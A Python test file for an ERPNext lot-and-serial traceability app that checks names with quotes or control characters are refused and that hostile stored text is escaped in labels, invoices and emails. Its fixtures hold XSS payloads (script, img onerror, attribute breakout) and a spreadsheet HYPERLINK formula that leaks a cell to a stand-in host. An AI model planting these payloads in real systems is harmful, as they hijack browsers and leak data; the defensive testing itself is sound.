"""Hostile text in what the app writes, as the shop's low-rights users (French).

- At the door: a lot or serial number holding a quote, `<`, `>` or a control character is refused
  when a Batch or Serial No is saved or renamed, and at receipt (a Purchase Receipt's lot number or
  serials, a Stock Entry's serials), with a French message.
- Through the output: hostile item names, customer names, addresses, authorization numbers — and
  lot and serial numbers written before the rule existed (straight to the database, as an import
  would) — go through the label preview (`preview_label`) and sheet HTML, the four print formats
  and the authorization email; the test parses each output and finds no attribute starting with
  `on`, no script or image that came from the data: only the text, as written.
- The exports' rule (`core.export_cells`) is tested in the pure suite; here, that the Lot Trace
  export applies it and that the preview frame is sandboxed without scripts.
"""

import email
import os
import re
from html.parser import HTMLParser

import frappe
from frappe.utils import add_days, nowdate

from dux_trace.compat import TestCase
from dux_trace.stock.names import UnsafeNameError
from dux_trace.tests.utils import (
	COMPANY,
	CURRENCY,
	STORES,
	SUPPLIER,
	acting_as,
	make_customer,
	make_item,
	make_outgoing_email_account,
	receive,
)

ATTRIBUTE = 'X" onmouseover="alert(1)'
SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"x")'
#: every hostile text at once: a quote that ends an attribute, a script, an image, a formula
HOSTILE = f"{ATTRIBUTE} {SCRIPT} {IMAGE} {FORMULA}"
A4 = "A4 3 x 8 (70 x 37 mm)"
APP = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


class Page(HTMLParser):
	"""What a browser would build from the HTML: elements with their attributes, and the text."""

	def __init__(self, html: str):
		super().__init__(convert_charrefs=True)
		self.elements: list[tuple[str, dict]] = []
		self.scripts: list[str] = []
		self.text: list[str] = []
		self._in_script = False
		self.feed(html)
		self.close()

	def handle_starttag(self, tag, attrs):
		self.elements.append((tag, dict(attrs)))
		self._in_script = tag == "script"

	def handle_endtag(self, tag):
		if tag == "script":
			self._in_script = False

	def handle_data(self, data):
		(self.scripts if self._in_script else self.text).append(data)

	def event_attributes(self) -> list[tuple[str, str, str]]:
		"""Event handlers that came from the data (every hostile text here calls alert(1); Frappe's
		print view has its own `onclick="window.print();"`)."""
		return [
			(tag, name, value)
			for tag, attrs in self.elements
			for name, value in attrs.items()
			if name.lower().startswith("on") and "alert" in (value or "") + name
		]

	def attribute_values(self, name: str) -> list[str]:
		return [attrs[name] for _, attrs in self.elements if attrs.get(name) is not None]

	def all_text(self) -> str:
		return "".join(self.text)


def legacy_lot(item_code: str, name: str) -> str:
	"""A lot saved before the rule existed (an import, an older version): written past validation."""
	if not frappe.db.exists("Batch", name):
		batch = frappe.get_doc(
			{"doctype": "Batch", "batch_id": name, "item": item_code, "expiry_date": add_days(nowdate(), 60)}
		)
		batch.flags.ignore_validate = True
		batch.insert(ignore_permissions=True)
	return name


def legacy_serial(item_code: str, name: str, batch_no: str | None = None) -> str:
	if not frappe.db.exists("Serial No", name):
		serial = frappe.get_doc(
			{
				"doctype": "Serial No",
				"serial_no": name,
				"item_code": item_code,
				"batch_no": batch_no,
				"company": COMPANY,  # mandatory on version-16
			}
		)
		serial.flags.ignore_validate = True
		serial.insert(ignore_permissions=True)
	return name


class OutputAssertions:
	def assert_inert(self, html: str, *texts: str) -> Page:
		"""No event attribute, no script or image from the data; each text shown as written."""
		page = Page(html)
		self.assertEqual(page.event_attributes(), [], "a value became an event attribute")
		self.assertFalse(
			[s for s in page.scripts if "alert(1)" in s], "a value became a script element's code"
		)
		self.assertNotIn("x", page.attribute_values("src"), "a value became an image")
		shown = re.sub(r"\s+", " ", page.all_text())
		for text in texts:
			self.assertIn(re.sub(r"\s+", " ", text), shown)
		return page


class TestHostileNamesAtTheDoor(TestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		run = frappe.generate_hash(length=5).upper()
		cls.tag = run
		cls.yoghurt = make_item(f"_DUX Hostile Yaourt {run}", "Lot", shelf_life_in_days=40).name
		cls.phone = make_item(f"_DUX Hostile Phone {run}", "Serial").name

	def receipt(self, **row):
		return frappe.get_doc(
			{
				"doctype": "Purchase Receipt",
				"company": COMPANY,
				"supplier": SUPPLIER,
				"currency": CURRENCY,
				"items": [{"qty": 1, "rate": 10, "warehouse": STORES, **row}],
			}
		)

	def test_a_lot_with_quotes_or_control_characters_is_refused_in_the_desk(self):
		for bad in (ATTRIBUTE, FORMULA, "L'ABC", "L`1", "LOT\tA", "LOT\rA", "LOT\x00A"):
			with acting_as("Item Manager"), self.assertRaises(UnsafeNameError) as refused:
				frappe.get_doc(
					{
						"doctype": "Batch",
						"batch_id": f"{self.tag}{bad}",
						"item": self.yoghurt,
						"expiry_date": add_days(nowdate(), 30),
					}
				).insert()
			self.assertIn("contient", str(refused.exception))  # the storekeeper's French
			self.assertFalse(frappe.db.exists("Batch", f"{self.tag}{bad}"))
		# what GS1 allows in a lot (AI 10), quotes and angle brackets aside, is kept
		with acting_as("Item Manager"):
			fine = frappe.get_doc(
				{
					"doctype": "Batch",
					"batch_id": f"{self.tag}-A/B.C:1;2(3)*+%&!?=_,",
					"item": self.yoghurt,
					"expiry_date": add_days(nowdate(), 30),
				}
			).insert()
		self.assertTrue(frappe.db.exists("Batch", fine.name))

	def test_angle_brackets_are_refused_too(self):
		with acting_as("Item Manager"), self.assertRaises((UnsafeNameError, frappe.NameError)):
			frappe.get_doc(
				{
					"doctype": "Batch",
					"batch_id": f"{self.tag}{SCRIPT}",
					"item": self.yoghurt,
					"expiry_date": add_days(nowdate(), 30),
				}
			).insert()

	def test_a_serial_with_a_quote_is_refused_in_the_desk(self):
		with acting_as("Item Manager"), self.assertRaises(UnsafeNameError):
			frappe.get_doc(
				{
					"doctype": "Serial No",
					"serial_no": f"{self.tag}{ATTRIBUTE}",
					"item_code": self.phone,
					"company": COMPANY,
				}
			).insert()

	def test_a_lot_or_serial_cannot_be_renamed_to_a_hostile_name(self):
		lot = frappe.get_doc(
			{
				"doctype": "Batch",
				"batch_id": f"REN{self.tag}",
				"item": self.yoghurt,
				"expiry_date": add_days(nowdate(), 30),
			}
		).insert(ignore_permissions=True)
		with self.assertRaises(UnsafeNameError):
			frappe.rename_doc("Batch", lot.name, f"REN{self.tag}{ATTRIBUTE}", force=True)
		serial = frappe.get_doc(
			{
				"doctype": "Serial No",
				"serial_no": f"REN{self.tag}",
				"item_code": self.phone,
				"company": COMPANY,
			}
		).insert(ignore_permissions=True)
		with self.assertRaises(UnsafeNameError):
			frappe.rename_doc("Serial No", serial.name, f"REN{self.tag}'1", force=True)

	def test_a_receipt_refuses_a_hostile_lot_number(self):
		with acting_as("Stock User"), self.assertRaises(UnsafeNameError) as refused:
			self.receipt(
				item_code=self.yoghurt,
				dux_lot_no=f"{self.tag}{ATTRIBUTE}",
				dux_expiry_date=add_days(nowdate(), 30),
			).insert()
		self.assertIn("Ligne n°1", str(refused.exception))
		self.assertIn("numéro de lot", str(refused.exception))
		self.assertFalse(frappe.db.exists("Batch", f"{self.tag}{ATTRIBUTE}"))

	def test_a_receipt_refuses_hostile_serials_whatever_the_scan_settings(self):
		good = f"IMEI{self.tag}1"
		for bad in (f"{self.tag}{ATTRIBUTE}", f"{self.tag}\tTAB", f"{self.tag}{FORMULA}"):
			with acting_as("Stock User"), self.assertRaises(UnsafeNameError) as refused:
				self.receipt(
					item_code=self.phone,
					qty=2,
					use_serial_batch_fields=1,
					serial_no=f"{good}\n{bad}",
				).insert()
			self.assertIn("numéro de série", str(refused.exception))
			self.assertFalse(frappe.db.exists("Serial No", bad))
		# a Stock Entry (Material Receipt), as ERPNext's own helper makes it
		with self.assertRaises(UnsafeNameError):
			receive(self.phone, 1, serial_no=f"{self.tag}'SE", use_serial_batch_fields=1)
		self.assertFalse(frappe.db.exists("Serial No", f"{self.tag}'SE"))


class TestHostileTextInTheOutput(OutputAssertions, TestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		run = cls.tag = frappe.generate_hash(length=5).upper()
		cls.item = make_item(f"_DUX Hostile Label {run}", "Lot", shelf_life_in_days=90).name
		cls.phone = make_item(f"_DUX Hostile Label Phone {run}", "Serial").name
		for item in (cls.item, cls.phone):  # as an import writes it: Frappe's save would clean it
			frappe.db.set_value("Item", item, "item_name", f"{HOSTILE} {run}")
			frappe.db.set_value("Item", item, "dux_short_name", f"{ATTRIBUTE} {run}")
		cls.lot = legacy_lot(cls.item, f"L{run}{ATTRIBUTE}")
		cls.serial = legacy_serial(cls.phone, f"S{run}{ATTRIBUTE}")
		cls.item_name = f"{HOSTILE} {run}"
		frappe.db.set_value("Serial No", cls.serial, "item_name", cls.item_name)  # its own copy

	def preview(self, doctype, name):
		from dux_trace.api.labels import preview_label

		with acting_as("Stock User", "Item Manager"):  # the storekeeper: Item Managers read lots
			return preview_label(A4, rows=[{"doctype": doctype, "name": name, "qty": 1}])

	def test_the_label_preview_shows_lot_serial_and_item_name_as_text(self):
		page = self.assert_inert(self.preview("Batch", self.lot), self.lot)
		self.assertIn(self.lot, page.attribute_values("data-lot"))  # inside its attribute, whole
		page = self.assert_inert(self.preview("Serial No", self.serial), self.serial)
		self.assertIn(self.serial, page.attribute_values("data-serial"))
		self.assert_inert(self.preview("Item", self.item))

	def test_every_line_of_a_label_sheet_is_text(self):
		from dux_trace.core.label_templates import LabelData
		from dux_trace.stock.labels import sheet_html

		template = frappe.get_doc("Dux Label Template", A4)
		for field in (
			"show_item_name",
			"show_short_name",
			"show_item_code",
			"show_lot",
			"show_serial",
			"show_dot",
		):
			template.set(field, 1)
		label = LabelData(
			item_code=self.item,
			item_name=HOSTILE,
			short_name=HOSTILE,
			price_text=HOSTILE,
			lot=self.lot,
			serial=self.serial,
			dot=ATTRIBUTE,
		)
		self.assert_inert(sheet_html([label], template, browser=True), self.lot, self.serial)

	def test_the_label_print_formats_show_the_data_as_text(self):
		with acting_as("Stock User", "Item Manager"):
			batch = frappe.get_print("Batch", self.lot, print_format="Dux Batch Label")
			serial = frappe.get_print("Serial No", self.serial, print_format="Dux Serial No Label")
			item = frappe.get_print("Item", self.item, print_format="Dux Item Label")
		self.assert_inert(batch, self.lot, self.item_name)
		self.assert_inert(serial, self.serial, self.item_name)
		self.assert_inert(item, self.item_name)

	def test_the_invoice_with_serials_shows_the_data_as_text(self):
		customer = make_customer(f"Client Hostile {self.tag}")
		invoice = frappe.get_doc(
			{
				"doctype": "Sales Invoice",
				"company": COMPANY,
				"customer": customer,
				"currency": CURRENCY,
				"selling_price_list": "Standard Selling",
				"items": [{"item_code": self.item, "qty": 1, "rate": 25}],
			}
		)
		invoice.set_missing_values()
		invoice.insert(ignore_permissions=True)
		# what an import or an older version may have stored: straight to the database
		frappe.db.set_value(
			"Sales Invoice",
			invoice.name,
			{
				"customer_name": HOSTILE,
				"address_display": f"{IMAGE}<br>{ATTRIBUTE}",
				"company_address_display": SCRIPT,
				"in_words": HOSTILE,
			},
		)
		row = invoice.items[0].name
		frappe.db.set_value(
			"Sales Invoice Item",
			row,
			{
				"item_name": HOSTILE,
				"batch_no": self.lot,
				"serial_no": f"{self.serial}\n{IMAGE}",
				"uom": ATTRIBUTE,
			},
		)
		with acting_as("Accounts User"):
			html = frappe.get_print("Sales Invoice", invoice.name, print_format="Sales Invoice with Serials")
		page = self.assert_inert(html, HOSTILE, self.lot, self.serial, IMAGE, SCRIPT)
		self.assertTrue(any(tag == "br" for tag, _ in page.elements))  # the address keeps its lines

	def test_the_authorization_email_shows_customer_and_number_as_text(self):
		from dux_trace.api.authorizations import notify_customer
		from dux_trace.tests.test_article_controls import make_authorization_type
		from dux_trace.tests.test_authorization_records import authorization

		make_outgoing_email_account()
		kind = make_authorization_type("Licence produits phytosanitaires", "Customer")
		customer = make_customer(f"Client Licence Hostile {self.tag}")
		licence = authorization(kind, customer, add_days(nowdate(), 10), number="PH-1")
		frappe.db.set_value("Dux Authorization", licence, "number", f"{ATTRIBUTE} {SCRIPT} {FORMULA}")
		frappe.db.set_value(
			"Customer",
			customer,
			{"customer_name": HOSTILE, "email_id": "hostile@coop.test", "language": "fr"},
		)
		with acting_as("Sales Manager"):
			notify_customer(licence)
		mail = frappe.get_last_doc("Email Queue", filters={"reference_name": licence})
		message = email.message_from_string(mail.message)
		bodies = [
			part.get_payload(decode=True).decode(part.get_content_charset() or "utf-8")
			for part in message.walk()
			if part.get_content_type() == "text/html"
		]
		self.assertTrue(bodies, "the email has an HTML body")
		for body in bodies:
			# Frappe's mailer makes relative links absolute, in the text too (src=x -> src=http://…/x):
			# the image is looked for as text without its source
			self.assert_inert(body, SCRIPT, "onerror=alert(1)>", f"{ATTRIBUTE} {SCRIPT} {FORMULA}")
		comment = frappe.get_last_doc(
			"Comment", filters={"reference_doctype": "Dux Authorization", "reference_name": licence}
		)
		self.assert_inert(comment.content)


class TestDeskCode(TestCase):
	"""What the desk's JavaScript does with other people's text (checked in its source: the browser
	suites drive it)."""

	def read(self, *path):
		with open(os.path.join(APP, *path)) as f:
			return f.read()

	def test_the_label_preview_frame_runs_no_script(self):
		source = self.read("public", "js", "labels.js")
		frames = re.findall(r"<iframe[^>]*>", source)
		self.assertTrue(frames)
		for frame in frames:
			sandbox = re.search(r'sandbox="([^"]*)"', frame)
			self.assertIsNotNone(sandbox, f"frame without sandbox: {frame}")
			self.assertNotIn("allow-scripts", sandbox.group(1))

	def test_the_lot_trace_export_neutralises_formulas(self):
		source = self.read("dux_trace", "report", "lot_trace", "lot_trace.js")
		for call in re.findall(r"downloadify\(([^;]*)\)", source):
			self.assertTrue(call.strip().startswith("dux_trace.safe_rows("), call)
